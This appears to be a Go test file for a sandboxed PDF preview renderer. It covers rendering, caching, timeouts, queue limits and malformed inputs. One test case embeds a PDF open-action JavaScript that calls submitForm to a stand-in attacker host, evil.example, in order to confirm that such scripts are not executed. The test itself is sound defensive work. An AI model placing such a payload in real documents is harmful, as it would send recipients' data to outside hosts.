package pdfpreview

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"image/png"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/bouclier/bouclier/internal/pdftest"
)

// pdf writes a PDF of the given objects (1 is the catalog), with a correct
// cross-reference table.
func pdf(objs ...string) []byte {
	return pdftest.Build("1.4", objs...)
}

func stream(s string) string {
	return fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(s), s)
}

// letter is a PDF of pages A4 pages with a black band and a line of text
// on each; catalog adds entries to its catalog (a script to run on
// opening); box is the page size.
func letter(pages int, catalog, box string) []byte {
	kids := make([]string, pages)
	for i := range kids {
		kids[i] = fmt.Sprintf("%d 0 R", 3+2*i)
	}
	objs := []string{"<< /Type /Catalog /Pages 2 0 R " + catalog + " >>",
		fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count %d >>", strings.Join(kids, " "), pages)}
	font := 3 + 2*pages
	for i := range pages {
		objs = append(objs, fmt.Sprintf("<< /Type /Page /Parent 2 0 R /MediaBox %s /Contents %d 0 R /Resources << /Font << /F1 %d 0 R >> >> >>", box, 4+2*i, font),
			stream(fmt.Sprintf("0 0 0 rg 0 700 600 60 re f BT /F1 24 Tf 72 600 Td (Page %d : sortie au musee) Tj ET", i+1)))
	}
	return pdf(append(objs, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")...)
}

const a4 = "[0 0 595 842]"

var (
	shared     *Renderer
	sharedOnce sync.Once
	cacheDir   string // the compiled module, for every test's children
)

// TestMain makes the test binary the renderer's child when asked (the
// bouclier command does the same with `bouclier pdf-render`), or a child
// that misbehaves.
func TestMain(m *testing.M) {
	if code, ok := ServeChild(os.Args[1:], os.Stdin, os.Stdout, os.Stderr); ok {
		os.Exit(code)
	}
	if len(os.Args) > 2 && os.Args[1] == "pdf-bad-child" {
		os.Exit(badChild(os.Args[2]))
	}
	var err error
	if cacheDir, err = os.MkdirTemp("", "pdfpreview-test-"); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	code := m.Run()
	_ = os.RemoveAll(cacheDir)
	os.Exit(code)
}

// renderer is one renderer for the package's tests, its children sharing
// one compiled PDFium (seconds to compile; more under the race detector).
func renderer() *Renderer {
	sharedOnce.Do(func() { shared = New(Options{Timeout: 60 * time.Second, CacheDir: cacheDir}) })
	return shared
}

func TestRender(t *testing.T) {
	r := renderer()
	ctx := context.Background()
	for _, c := range []struct {
		name   string
		data   []byte
		pages  int // 0: no preview
		maxW   int
		maxH   int
		banded bool
	}{
		{"letter", letter(1, "", a4), 1, 900, 1200, true},
		{"three pages", letter(3, "", a4), 3, 900, 1200, true},
		// A script run on opening is not run: PDFium here has no engine.
		{"script on opening", letter(1, "/OpenAction << /S /JavaScript /JS (app.alert\\('x'\\); this.submitForm\\('http://evil.example/'\\);) >>", a4), 1, 900, 1200, true},
		// A page the size of a wall is drawn within the pixel bound.
		{"huge page", letter(1, "", "[0 0 14400 14400]"), 1, 900, 1200, false},
		{"not a PDF", []byte("MZ\x90\x00 this is not a PDF at all"), 0, 0, 0, false},
		{"truncated", letter(1, "", a4)[:120], 0, 0, 0, false},
		{"no pages", pdf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"), 0, 0, 0, false},
		{"empty", nil, 0, 0, 0, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			p, err := r.Render(ctx, c.name, c.data)
			if c.pages == 0 {
				if !errors.Is(err, ErrUnavailable) {
					t.Fatalf("preview of %s: %v, %d pages, want ErrUnavailable", c.name, err, p.Pages)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			img, err := png.Decode(bytes.NewReader(p.PNG))
			if err != nil {
				t.Fatalf("not a PNG: %v", err)
			}
			b := img.Bounds()
			if p.Pages != c.pages || b.Dx() != p.Width || b.Dy() != p.Height || b.Dx() > c.maxW || b.Dy() > c.maxH || b.Dx() < 100 {
				t.Fatalf("%d pages, %dx%d (%dx%d)", p.Pages, b.Dx(), b.Dy(), p.Width, p.Height)
			}
			if c.banded {
				// The band near the top is black, the margin below white.
				x := b.Dx() / 2
				band, margin := b.Dy()*100/842, b.Dy()*400/842
				if r, _, _, _ := img.At(x, band).RGBA(); r > 0x2000 {
					t.Errorf("band not drawn: %v", img.At(x, band))
				}
				if r, _, _, _ := img.At(x, margin).RGBA(); r < 0xe000 {
					t.Errorf("margin not white: %v", img.At(x, margin))
				}
			}
		})
	}
	// Outcomes are cached by key, failures too.
	if _, err, ok := r.Cached("letter"); !ok || err != nil {
		t.Errorf("letter not cached: %v %v", ok, err)
	}
	if _, err, ok := r.Cached("not a PDF"); !ok || !errors.Is(err, ErrUnavailable) {
		t.Errorf("failure not cached: %v %v", ok, err)
	}
	if _, _, ok := r.Cached("never seen"); ok {
		t.Error("an unknown key is cached")
	}
}

// TestRenderKilled: a render past its time is killed and fails closed;
// the next one works.
func TestRenderKilled(t *testing.T) {
	r := renderer()
	ctx := context.Background()
	if _, err := r.Render(ctx, "warm", letter(1, "", a4)); err != nil {
		t.Fatal(err)
	}
	r.o.Timeout = time.Nanosecond
	_, err := r.Render(ctx, "killed", letter(2, "", a4))
	r.o.Timeout = 60 * time.Second
	if !errors.Is(err, ErrUnavailable) {
		t.Fatalf("render past its time: %v, want ErrUnavailable", err)
	}
	if p, err := r.Render(ctx, "after", letter(2, "", a4)); err != nil || p.Pages != 2 {
		t.Fatalf("render after a kill: %v %d", err, p.Pages)
	}
}

// TestQueueBounded: past Queued renders waiting, a new one is refused at
// once (not cached), and the cache keeps at most Cached outcomes.
func TestQueueBounded(t *testing.T) {
	r := New(Options{Queued: 1, Cached: 2, MaxBytes: 10})
	r.turn <- struct{}{} // a render under way
	if _, err := r.start("a", []byte("0123456789ab")); err != nil {
		t.Fatal(err)
	}
	if _, err := r.start("b", []byte("0123456789ab")); !errors.Is(err, ErrBusy) {
		t.Fatalf("second waiting render: %v, want ErrBusy", err)
	}
	<-r.turn
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	for _, k := range []string{"a", "c", "d", "e"} {
		// Too big for MaxBytes: fails at once, without PDFium.
		if _, err := r.Render(ctx, k, []byte("0123456789ab")); !errors.Is(err, ErrUnavailable) {
			t.Fatalf("%s: %v", k, err)
		}
	}
	r.mu.Lock()
	n := len(r.entries)
	r.mu.Unlock()
	if n > 2 {
		t.Errorf("%d outcomes kept, want at most 2", n)
	}
}
